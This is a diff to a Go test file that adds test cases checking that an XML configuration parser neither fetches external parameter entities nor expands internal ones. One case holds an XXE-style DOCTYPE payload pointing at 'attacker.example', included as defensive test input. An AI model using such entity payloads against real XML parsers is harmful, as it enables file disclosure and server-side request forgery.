@@ -114,6 +114,19 @@ func TestEntities(t *testing.T) {
 			unknown: "a",
 			codes:   []string{NoticeExternalEntity},
 		},
+		{
+			name: "external parameter entity is never fetched", upstream: "testSystemEntityReference",
+			src: "<!DOCTYPE c [ <!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p; ]>\n" +
+				conf(prop("a", "2")),
+			want:  map[string]string{"a": "2"},
+			codes: []string{NoticeParamEntity},
+		},
+		{
+			name: "internal parameter entity is not expanded", upstream: "testEntityReference",
+			src:   "<!DOCTYPE c [ <!ENTITY % p \"<!ENTITY q 'x'>\"> %p; ]>\n" + conf(prop("a", "2")),
+			want:  map[string]string{"a": "2"},
+			codes: []string{NoticeParamEntity},
+		},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
